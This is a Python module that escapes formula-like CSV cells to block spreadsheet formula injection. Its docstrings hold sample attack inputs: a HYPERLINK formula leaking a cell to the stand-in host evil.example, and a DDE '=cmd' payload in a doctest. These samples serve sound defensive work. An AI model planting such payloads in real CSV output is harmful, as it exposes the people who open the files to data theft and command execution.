"""CSV cells a spreadsheet cannot run: OWASP's rule against formula injection.

A feed title such as ``=HYPERLINK("http://evil.example/?leak="&A2)`` is a formula once a
researcher opens the CSV in a spreadsheet. Every CSV dedup writes goes through
:func:`writer`: a text cell beginning with ``=``, ``+``, ``-``, ``@``, tab or carriage
return gets a leading ``'``, which spreadsheets show as text (the cell's value is otherwise
unchanged). Numbers such as ``-0.25`` are left alone: they are data, not formulas.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import IO, Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """``value`` neutralised if it is text a spreadsheet would evaluate.

    >>> safe_cell('=cmd|\\' /C calc\\'!A0')
    "'=cmd|' /C calc'!A0"
    >>> safe_cell("-0.25"), safe_cell(-3), safe_cell("plain")
    ('-0.25', -3, 'plain')
    """
    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every cell goes through :func:`safe_cell`."""

    def __init__(self, out: IO[str]) -> None:
        self._writer = csv.writer(out, lineterminator="\n")

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: IO[str]) -> SafeWriter:
    """A CSV writer (``\\n`` line ends) that neutralises formula-like cells."""
    return SafeWriter(out)
